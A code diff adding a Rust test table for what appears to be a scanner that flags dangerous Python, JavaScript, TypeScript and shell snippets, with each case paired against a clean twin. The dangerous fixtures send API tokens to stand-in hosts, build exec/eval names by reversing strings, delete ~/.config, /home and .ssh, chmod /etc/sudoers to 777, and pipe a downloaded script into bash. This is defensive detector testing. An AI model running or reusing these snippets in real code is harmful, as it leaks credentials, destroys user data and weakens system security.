@@ -726,3 +726,213 @@ fn text_signals() {
     let padded = format!("x = 1{}; print('more')\n", " ".repeat(90));
     check(Py, &padded, Suspicious, "hidden-code", "blanks");
 }
+
+/// Values followed further through the program: attributes set in one method and read in
+/// another, HTTP client objects, string slices and `reversed`, URL objects, the script's own
+/// location, shell functions that run their arguments, quoted strings as the shell reads them.
+/// One row per rule, each with the twin the evidence keeps clean.
+#[test]
+fn values_followed_through_the_program() {
+    type Row = (Language, &'static str, Verdict, &'static str, &'static str);
+    let rows: &[Row] = &[
+        // Attributes: what setUp stores, tearDown reads.
+        (
+            Py,
+            "import shutil, tempfile, unittest\nclass T(unittest.TestCase):\n    def setUp(self):\n        self.tmp = tempfile.mkdtemp()\n    def tearDown(self):\n        shutil.rmtree(self.tmp)\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Py,
+            "import shutil, unittest\nfrom pathlib import Path\nclass T(unittest.TestCase):\n    def setUp(self):\n        self.cache = Path.home() / '.config'\n    def tearDown(self):\n        shutil.rmtree(self.cache)\n",
+            Dangerous,
+            "delete-outside",
+            "~/.config",
+        ),
+        // HTTP clients keep their credentials and base URL.
+        (
+            Py,
+            "import os, requests\ns = requests.Session()\ns.headers.update({'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']})\nprint(s.get('https://api.github.com/user').json())\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Py,
+            "import os, requests\ns = requests.Session()\ns.headers['Authorization'] = 'Bearer ' + os.environ['GITHUB_TOKEN']\ns.get('https://mirror.example.net/user')\n",
+            Dangerous,
+            "secret-to-network",
+            "mirror.example.net",
+        ),
+        (
+            Py,
+            "import os, httpx\nc = httpx.Client(base_url='https://api.openai.com', headers={'Authorization': 'Bearer ' + os.environ['OPENAI_API_KEY']})\nc.get('/v1/models')\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Py,
+            "import os, httpx\nc = httpx.Client(base_url='https://relay.example.org', headers={'X-Key': os.environ['OPENAI_API_KEY']})\nc.post('/v1/chat', json={})\n",
+            Dangerous,
+            "secret-to-network",
+            "relay.example.org",
+        ),
+        (
+            Py,
+            "import os, urllib.request\nAPI = 'https://api.github.com'\ndef get(path):\n    req = urllib.request.Request(API + path)\n    req.add_header('Authorization', 'Bearer ' + os.environ['GITHUB_TOKEN'])\n    return urllib.request.urlopen(req).read()\nget('/user')\nget('/repos/a/b/pulls')\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Py,
+            "import os, urllib.request\nreq = urllib.request.Request('https://gh-cache.example.net/x')\nreq.add_header('Authorization', os.environ['GITHUB_TOKEN'])\nurllib.request.urlopen(req)\n",
+            Dangerous,
+            "secret-to-network",
+            "gh-cache.example.net",
+        ),
+        // Names built by slicing or reversing a literal.
+        (
+            Py,
+            "import base64, builtins\nrun = getattr(builtins, 'cexe'[::-1])\nrun(base64.b64decode('cHJpbnQoMSk=').decode())\n",
+            Dangerous,
+            "decode-to-exec",
+            "dynamic code",
+        ),
+        (
+            Py,
+            "import builtins\nf = getattr(builtins, ''.join(reversed('lave')))\nf(input())\n",
+            Dangerous,
+            "decode-to-exec",
+            "dynamic code",
+        ),
+        (
+            Py,
+            "name = 'report.csv'[:-4]\nprint(name[::-1])\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Py,
+            "import os, shutil\nbase = os.sep.join(['', 'ho' + 'me'])\nfor e in os.listdir(base):\n    shutil.rmtree(os.path.join(base, e))\n",
+            Dangerous,
+            "delete-outside",
+            "/home",
+        ),
+        // JS: URL objects, the script's own directory, a documented host's connection.
+        (
+            Ts,
+            "const url = new URL('https://api.github.com/repos/a/b/issues');\nurl.searchParams.set('state', 'open');\nawait fetch(url, { headers: { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Ts,
+            "const url = new URL('https://stats.example.net/p');\nurl.searchParams.set('k', process.env.NPM_TOKEN ?? '');\nawait fetch(url);\n",
+            Dangerous,
+            "secret-to-network",
+            "stats.example.net",
+        ),
+        (
+            Js,
+            "const path = require('path');\nconst fs = require('fs');\nconst root = path.resolve(__dirname, '..');\nfs.rmSync(path.join(root, 'dist'), { recursive: true, force: true });\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Js,
+            "import { fileURLToPath } from 'node:url';\nimport path from 'node:path';\nimport fs from 'node:fs';\nconst here = path.dirname(fileURLToPath(import.meta.url));\nfs.rmSync(path.resolve(here, '..', 'build'), { recursive: true, force: true });\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Js,
+            "const path = require('path');\nconst fs = require('fs');\nfs.rmSync(path.join(__dirname, '..', '..', '.ssh'), { recursive: true, force: true });\n",
+            Dangerous,
+            "delete-outside",
+            ".ssh",
+        ),
+        (
+            Js,
+            "const https = require('https');\nconst body = JSON.stringify({ channel: 'C1', text: 'deployed' });\nconst req = https.request({ hostname: 'slack.com', path: '/api/chat.postMessage', method: 'POST', headers: { Authorization: `Bearer ${process.env.SLACK_BOT_TOKEN}` } });\nreq.write(body);\nreq.end();\n",
+            Clean,
+            "",
+            "",
+        ),
+        // JS file modes.
+        (
+            Ts,
+            "import { chmodSync } from 'node:fs';\nchmodSync('/etc/sudoers', 0o777);\n",
+            Dangerous,
+            "weaken-permissions",
+            "/etc/sudoers",
+        ),
+        (
+            Ts,
+            "import { chmodSync } from 'node:fs';\nchmodSync('scripts/run.sh', 0o755);\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Ts,
+            "import { writeFileSync } from 'node:fs';\nimport { spawnSync } from 'node:child_process';\nconst res = await fetch('https://tools.example.net/t');\nwriteFileSync('/tmp/t', Buffer.from(await res.arrayBuffer()), { mode: 0o755 });\n",
+            Dangerous,
+            "download-to-exec",
+            "make executable",
+        ),
+        // Source files: a codemod is the file's own text; code appended unseen is not.
+        (
+            Py,
+            "from pathlib import Path\nfor p in Path('src').rglob('*.py'):\n    p.write_text(p.read_text().replace('old_name', 'new_name'))\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Py,
+            "import glob\nextra = open('notes.txt').read()\nfor f in glob.glob('src/*.py'):\n    with open(f, 'a') as fh:\n        fh.write(extra)\n",
+            Suspicious,
+            "source-rewrite",
+            "write",
+        ),
+        // Shell: functions that run their arguments, strings as the shell reads them.
+        (
+            Sh,
+            "BIN=./target/debug/app\ncheck() {\n  desc=$1; shift\n  if \"$@\" >/dev/null 2>&1; then echo \"ok $desc\"; else echo \"FAIL $desc\"; fi\n}\ncheck init \"$BIN\" init\ncheck list sh -c \"test -z \\\"\\$(\\\"$BIN\\\" list)\\\"\"\n",
+            Clean,
+            "",
+            "",
+        ),
+        (
+            Sh,
+            "run() {\n  echo \"+ $*\"\n  \"$@\"\n}\nrun rm -rf \"$HOME/.config\"\n",
+            Dangerous,
+            "delete-outside",
+            "~/.config",
+        ),
+        (
+            Sh,
+            "curl -fsSL https://dl.example.net/install.sh | bash -s -- --prefix \"$HOME/.local\"\n",
+            Dangerous,
+            "download-to-exec",
+            "exec",
+        ),
+        (
+            Sh,
+            "k=\"$(printf '%s' \"$OPENAI_API_KEY\" | rev)\"\ncurl -s \"https://stats.example.net/p?k=$k\"\n",
+            Dangerous,
+            "secret-to-network",
+            "stats.example.net",
+        ),
+    ];
+    for (lang, code, verdict, rule, step) in rows {
+        check(*lang, code, *verdict, rule, step);
+    }
+}
